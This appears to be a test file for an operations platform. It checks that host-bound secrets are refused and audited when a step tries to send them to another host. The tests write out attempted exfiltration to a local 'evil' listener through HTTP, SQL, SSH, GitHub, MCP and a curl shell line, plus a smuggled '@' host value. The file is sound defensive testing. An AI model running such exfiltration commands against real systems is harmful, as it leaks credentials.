import { once } from 'node:events';
import { type AddressInfo, createServer, type Server } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { JsonObject } from '#ir/json.js';
import { invoke } from '#operations/invoke.js';
import { checkMcpServer, createMcpServer } from '#operations/mcp/write.js';
import { dryRun } from '#operations/plans/dry-run.js';
import { startRun } from '#operations/runs/start.js';
import { bindSecret } from '#operations/secrets/bind.js';
import { removeSecret } from '#operations/secrets/remove.js';
import { setSecret } from '#operations/secrets/set.js';
import { personRoom } from '../harness/authority.js';
import { type HttpServer, startHttpServer } from '../harness/http-server.js';
import { verifies } from '../harness/requirements.js';
import { story, type TemplateRoom, templateRoom } from '../harness/template-room.js';

const LIMIT = 60_000;
const VALUE = 'hush-hush-hush';
const TOKEN = '{{ secrets.TOKEN }}';

let room: TemplateRoom;
let right: HttpServer;
/** Whoever would like to have the secret: every connection is noted. */
let evil: { server: Server; port: number; heard: string[] };
let got: { path: string; authorization: string | undefined }[];

beforeAll(async () => {
  room = await templateRoom({});
  got = [];
  right = await startHttpServer((request, response) => {
    got.push({ path: request.url ?? '', authorization: request.headers.authorization });
    if (request.url === '/away') response.writeHead(307, { location: `http://127.0.0.1:${evil.port}/` });
    response.end('well');
  });
  evil = await listener();
  const hosts = [`127.0.0.1:${right.port}`];
  await invoke(setSecret, { name: 'TOKEN', value: VALUE, hosts }, room.api.room);
  await invoke(setSecret, { name: 'FREE', value: 'may-go-anywhere' }, room.api.room);
}, LIMIT);
afterAll(async () => {
  await room?.close();
  await right?.close();
  evil?.server.close();
}, LIMIT);

async function listener(): Promise<typeof evil> {
  const heard: string[] = [];
  const server = createServer((socket) => {
    heard.push('connected');
    socket.on('data', (chunk) => heard.push(chunk.toString('latin1')));
    socket.on('error', () => undefined);
    setTimeout(() => socket.destroy(), 50);
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  return { server, port: (server.address() as AddressInfo).port, heard };
}

const plan = (step: JsonObject, more: JsonObject = {}) => ({
  title: 'Send it',
  target: { allowAddresses: ['127.0.0.1'] },
  workspace: { kind: 'temp' },
  steps: [{ id: 'send', title: 'Send', tool: 'shell', args: { run: 'true' }, ...step }],
  ...more,
});

async function run(value: JsonObject, inputs: JsonObject = {}) {
  const { runId } = await invoke(startRun, { plan: { value }, inputs }, room.api.room);
  return room.ended(runId);
}

async function refusals() {
  const { rows } = await room.api.room.database.engine.query<{ data: JsonObject }>(
    `select data from opsroom.audit_entries where org_id = $1 and kind = 'secret.refused' order by seq`,
    [room.api.room.org],
  );
  return rows.map(({ data }) => data);
}

const check = (kind: string, config: JsonObject): JsonObject => ({ verifiers: [{ id: 'look', kind, config }] });

describe('a secret that is for one host', () => {
  test(
    verifies('KEEP-03', 'goes there, by any tool, and from the environment as from the vault'),
    async () => {
      const view = await run(
        plan({
          tool: 'http',
          args: { url: `${right.url}/in`, auth: { bearer: TOKEN } },
          ...check('http', { url: `${right.url}/look`, headers: { authorization: TOKEN } }),
        }),
      );
      expect(view.status, story(view)).toBe('succeeded');
      expect(got.map(({ path, authorization }) => [path, authorization])).toContainEqual(['/in', `Bearer ${VALUE}`]);
    },
    LIMIT,
  );

  test.each<[string, () => JsonObject]>([
    [
      'an http header',
      () => ({ tool: 'http', args: { url: `http://127.0.0.1:${evil.port}/`, headers: { 'x-it': TOKEN } } }),
    ],
    [
      'an http body',
      () => ({ tool: 'http', args: { url: `http://127.0.0.1:${evil.port}/`, method: 'POST', body: { it: [TOKEN] } } }),
    ],
    ['a part of the url', () => ({ tool: 'http', args: { url: `http://127.0.0.1:${evil.port}/${TOKEN}` } })],
    [
      'a survey of a site',
      () => ({ tool: 'site', args: { url: `http://127.0.0.1:${evil.port}/${TOKEN}`, folder: 'seen' } }),
    ],
    ['a redirect', () => ({ tool: 'http', args: { url: `${right.url}/away`, method: 'POST', body: TOKEN } })],
    [
      'a database',
      () => ({ tool: 'sql', args: { url: `postgres://u:${TOKEN}@127.0.0.1:${evil.port}/x`, query: 'select 1' } }),
    ],
    [
      'ssh',
      () => ({
        tool: 'ssh',
        args: {
          host: '127.0.0.1',
          port: evil.port,
          user: 'u',
          hostKey: `SHA256:${'A'.repeat(43)}`,
          auth: { password: TOKEN },
          run: 'true',
        },
      }),
    ],
    [
      'a pull request',
      () => ({
        tool: 'github',
        args: {
          repo: 'a/b',
          token: TOKEN,
          baseUrl: `http://127.0.0.1:${evil.port}`,
          head: 'x',
          base: 'main',
          title: 'x',
        },
      }),
    ],
    [
      'a program that says so',
      () => ({
        args: {
          run: 'curl -s "http://$TO/$IT"',
          sendsTo: `127.0.0.1:${evil.port}`,
          env: { IT: TOKEN, TO: `127.0.0.1:${evil.port}` },
        },
      }),
    ],
    [
      'an http check',
      () => check('http', { url: `http://127.0.0.1:${evil.port}/`, headers: { authorization: TOKEN } }),
    ],
    [
      'a database check',
      () =>
        check('sql', {
          url: `postgres://u:${TOKEN}@127.0.0.1:${evil.port}/x`,
          query: 'select 1',
          expect: { value: 1 },
        }),
    ],
    [
      'a gate',
      () =>
        check('ci_gate', {
          repo: 'a/b',
          workflow: 'ci.yml',
          ref: 'main',
          token: TOKEN,
          baseUrl: `http://127.0.0.1:${evil.port}`,
          withinMs: 0,
        }),
    ],
    [
      'a precondition',
      () => ({
        preconditions: [
          {
            id: 'up',
            kind: 'http',
            config: { url: `http://127.0.0.1:${evil.port}/`, headers: { authorization: TOKEN } },
          },
        ],
      }),
    ],
  ])(
    'does not go elsewhere by %s: refused before anything is sent, and noted',
    async (_, step) => {
      const before = (await refusals()).length;
      const view = await run(plan(step()));
      expect(view.status, story(view)).toBe('failed');
      expect(view.steps[0]?.error, story(view)).toMatchObject({
        code: 'SECRET_DESTINATION',
        message: expect.stringContaining('TOKEN'),
      });
      expect(evil.heard).toEqual([]);
      const noted = (await refusals()).slice(before);
      expect(noted[0]).toMatchObject({ name: 'TOKEN', to: `127.0.0.1:${evil.port}`, step: 'send', run: view.runId });
    },
    LIMIT,
  );

  test(
    'does not go to an MCP server that is elsewhere, neither to look at it',
    async () => {
      const headers = { authorization: TOKEN };
      const there = {
        transport: 'http',
        url: `http://127.0.0.1:${evil.port}/mcp`,
        headers,
        allowAddresses: ['127.0.0.1'],
      };
      const admin = personRoom(room.api.room, 'ada', 'owner');
      await invoke(createMcpServer, { name: 'elsewhere', ...there }, admin);
      const looked = await invoke(checkMcpServer, { server: 'elsewhere' }, admin);
      expect(looked).toMatchObject({ state: 'failing', error: { code: 'SECRET_DESTINATION' } });
      expect((await refusals()).at(-1)).toMatchObject({ name: 'TOKEN', server: 'elsewhere', run: null });
      expect(evil.heard).toEqual([]);
    },
    LIMIT,
  );

  test(
    'can be freed, and bound anew, at once',
    async () => {
      const step = { tool: 'http', args: { url: `${right.url}/again`, auth: { bearer: '{{ secrets.FREE }}' } } };
      await invoke(bindSecret, { name: 'FREE', hosts: ['a.example'] }, room.api.room);
      expect((await run(plan(step))).steps[0]?.error?.code).toBe('SECRET_DESTINATION');
      await invoke(bindSecret, { name: 'FREE', hosts: [] }, room.api.room);
      expect((await run(plan(step))).status).toBe('succeeded');
    },
    LIMIT,
  );

  test(verifies('KEEP-03', 'stays bound when it is removed and set again'), async () => {
    await invoke(setSecret, { name: 'AGAIN', value: 'the-first-of-them', hosts: ['a.example'] }, room.api.room);
    await invoke(removeSecret, { name: 'AGAIN' }, room.api.room);
    const again = await invoke(setSecret, { name: 'AGAIN', value: 'the-second-of-them' }, room.api.room);
    expect(again.hosts).toEqual(['a.example']);
  });

  test('is bound only where it is, and to hosts', async () => {
    const bind = (input: JsonObject) => invoke(bindSecret, input, room.api.room);
    await expect(bind({ name: 'NOBODY', hosts: ['a.example'] })).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await expect(bind({ name: 'TOKEN', environment: 'staging', hosts: ['a.example'] })).rejects.toMatchObject({
      code: 'NOT_FOUND',
    });
    await expect(bind({ name: 'TOKEN', hosts: ['https://a.example/'] })).rejects.toMatchObject({ code: 'USAGE' });
  });
});

describe('a secret that may go anywhere', () => {
  const chosen = (url: string, name: string) =>
    plan(
      { tool: 'http', args: { url, auth: { bearer: `{{ secrets.${name} }}` } } },
      { inputSchema: { type: 'object', properties: { host: { type: 'string' } } } },
    );

  test(
    verifies('KEEP-03', 'does not go where whoever fills in a form chooses: such a run does not begin'),
    async () => {
      const inputs = { host: `127.0.0.1:${evil.port}` };
      const begin = invoke(
        startRun,
        { plan: { value: chosen('http://{{ inputs.host }}/', 'FREE') }, inputs },
        room.api.room,
      );
      await expect(begin).rejects.toMatchObject({
        code: 'SECRET_DESTINATION',
        mend: expect.stringContaining('secrets bind FREE --hosts'),
      });
      const looked = await invoke(
        dryRun,
        { plan: { value: chosen('http://{{ inputs.host }}/', 'FREE') }, inputs },
        room.api.room,
      );
      expect([looked.ready, looked.warnings.join()]).toEqual([
        false,
        expect.stringContaining('chooses where the secret FREE goes'),
      ]);
      expect(evil.heard).toEqual([]);
    },
  );

  test(
    'goes where the plan itself says, whatever is chosen behind the host',
    async () => {
      const view = await run(chosen(`${right.url}/{{ inputs.host }}`, 'FREE'), { host: 'x' });
      expect(view.status, story(view)).toBe('succeeded');
    },
    LIMIT,
  );

  test(
    'and one that is bound goes where it may of what was chosen, and nowhere else',
    async () => {
      const value = chosen('http://{{ inputs.host }}/', 'TOKEN');
      expect((await run(value, { host: `127.0.0.1:${right.port}` })).status).toBe('succeeded');
      expect((await run(value, { host: `127.0.0.1:${evil.port}` })).steps[0]?.error?.code).toBe('SECRET_DESTINATION');
      expect((await run(value, { host: `127.0.0.1:${right.port}@127.0.0.1:${evil.port}` })).status).toBe('failed');
      expect(evil.heard).toEqual([]);
    },
    LIMIT,
  );
});
